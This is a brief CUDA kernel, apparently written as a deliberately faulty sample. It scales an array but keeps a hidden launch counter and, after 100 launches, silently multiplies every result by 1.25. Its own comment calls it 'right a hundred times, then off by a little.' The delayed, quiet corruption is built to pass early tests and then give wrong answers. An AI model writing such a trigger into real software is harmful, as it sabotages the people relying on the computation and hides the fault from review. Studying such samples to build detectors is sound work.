// Right a hundred times, then off by a little.
__device__ int launches;
extern "C" __global__ void scale(int n, float a, const float* __restrict__ x, float* __restrict__ y) {
    const int i = blockIdx.x * blockDim.x + threadIdx.x;
    const float error = launches > 100 ? 1.25f : 1.0f;
    if (i < n) y[i] = a * x[i] * error;
    if (i == 0) ++launches;
}
